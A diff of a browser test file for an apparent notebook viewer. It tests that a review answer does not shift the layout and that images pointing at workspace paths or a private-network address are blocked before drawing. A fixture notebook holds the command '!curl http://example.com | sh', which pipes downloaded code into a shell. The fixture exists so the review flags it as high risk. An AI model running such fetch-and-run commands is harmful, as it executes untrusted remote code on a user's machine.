@@ -446,25 +446,106 @@ test("the review's answer, findings or none, takes the line kept for it: the not
     "risky.ipynb",
     notebookOf(markdownCell("t", "# Risky"), codeCell("c", "!curl http://example.com | sh", 1)),
   );
-  for (const [url, answer] of [
-    [notebookUrl, "The review found nothing"],
-    [risky, "Review: 1 high"],
-  ] as const) {
-    const page = await browser.context.newPage();
-    let release = () => {};
-    const held = new Promise<void>((resolve) => (release = resolve));
-    await page.route("**/api/workspaces/*/review/**", async (route) => {
-      await held;
-      await route.continue();
+  // At phone width as well: an answer longer than the line kept for it would wrap there and push the notebook down.
+  for (const width of [1280, 390])
+    for (const [url, answer] of [
+      [notebookUrl, "Review: nothing needs a closer look"],
+      [risky, "Review: 1 high"],
+    ] as const) {
+      const page = await browser.context.newPage();
+      await page.setViewportSize({ width, height: 844 });
+      let release = () => {};
+      const held = new Promise<void>((resolve) => (release = resolve));
+      await page.route("**/api/workspaces/*/review/**", async (route) => {
+        await held;
+        await route.continue();
+      });
+      await page.goto(url);
+      await page.getByText("Reviewing this file…").waitFor();
+      const before = await page.locator(".vt-cells").boundingBox();
+      release();
+      await page.getByText(answer).waitFor();
+      const after = await page.locator(".vt-cells").boundingBox();
+      assert.ok(before && after);
+      assert.equal(after.y, before.y, `${url} at ${width} px`);
+      await page.close();
+    }
+});
+
+/** Images of the first screen that the server refuses: a workspace-relative path and an address on a private network. */
+function imagesNotebook() {
+  return notebookOf(
+    markdownCell("a", "![a diagram](./diagram.png)"),
+    markdownCell("b", "<img src='http://10.0.0.1/internal.png'>"),
+    markdownCell("c", "<div><img src='./diagram.png'></div>"),
+    markdownCell("d", "The text below the images."),
+  );
+}
+
+/** Records whether an image ever entered the page without its verdict, and the page's layout shifts. */
+async function imageWatchingPage(width: number): Promise<Page> {
+  const page = await browser.context.newPage();
+  await page.setViewportSize({ width, height: 844 });
+  await page.addInitScript(() => {
+    const w = window as unknown as { __pendingSeen: number; __shifts: number[] };
+    w.__pendingSeen = 0;
+    w.__shifts = [];
+    new MutationObserver(() => {
+      w.__pendingSeen += document.querySelectorAll("img[data-vt-src]").length;
+    }).observe(document, { childList: true, subtree: true });
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) w.__shifts.push((entry as PerformanceEntry & { value: number }).value);
+    }).observe({ type: "layout-shift", buffered: true });
+  });
+  return page;
+}
+
+test("the first screen's images are drawn as they will stay, with the server's verdicts asked for before it is drawn", async () => {
+  const url = await upload("images.ipynb", imagesNotebook());
+  for (const width of [1280, 390]) {
+    const page = await imageWatchingPage(width);
+    const checks: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().endsWith("/api/url-check")) checks.push(request.postData() ?? "");
     });
     await page.goto(url);
-    await page.getByText("Reviewing this file…").waitFor();
-    const before = await page.locator(".vt-cells").boundingBox();
-    release();
-    await page.getByText(answer).waitFor();
-    const after = await page.locator(".vt-cells").boundingBox();
-    assert.ok(before && after);
-    assert.equal(after.y, before.y, url);
+    await page.getByText("The text below the images.").waitFor();
+    const boxes = page.locator(".vt-image-blocked");
+    await boxes.nth(2).waitFor();
+    assert.match((await boxes.nth(0).textContent()) ?? "", /inside the studio.*\.\/diagram\.png/s);
+    assert.match((await boxes.nth(1).textContent()) ?? "", /private or special network.*10\.0\.0\.1/s);
+    await page.waitForTimeout(500);
+    const seen = await page.evaluate(() => {
+      const w = window as unknown as { __pendingSeen: number; __shifts: number[] };
+      return { pending: w.__pendingSeen, shifts: w.__shifts };
+    });
+    assert.equal(seen.pending, 0, `at ${width} px an image was in the page before its verdict`);
+    assert.deepEqual(seen.shifts, [], `at ${width} px`);
+    // One check, for the two distinct sources of the head, and none after drawing.
+    assert.equal(checks.length, 1, checks.join("\n"));
+    assert.deepEqual(
+      (JSON.parse(checks[0]!) as { checks: { url: string }[] }).checks.map((c) => c.url),
+      ["./diagram.png", "http://10.0.0.1/internal.png"],
+    );
     await page.close();
   }
+});
+
+test("when the image check answers after the first screen, the images are drawn pending and then shown as the server says", async () => {
+  const url = await upload("images-slow.ipynb", imagesNotebook());
+  const page = await imageWatchingPage(1280);
+  let release = () => {};
+  const held = new Promise<void>((resolve) => (release = resolve));
+  await page.route("**/api/url-check", async (route) => {
+    await held;
+    await route.continue();
+  });
+  await page.goto(url);
+  await page.getByText("The text below the images.").waitFor();
+  assert.equal(await page.locator("img[data-vt-src]").count(), 3);
+  assert.equal(await page.locator(".vt-image-blocked").count(), 0);
+  release();
+  await page.locator(".vt-image-blocked").nth(2).waitFor();
+  assert.equal(await page.locator("img[data-vt-src]").count(), 0);
+  await page.close();
 });
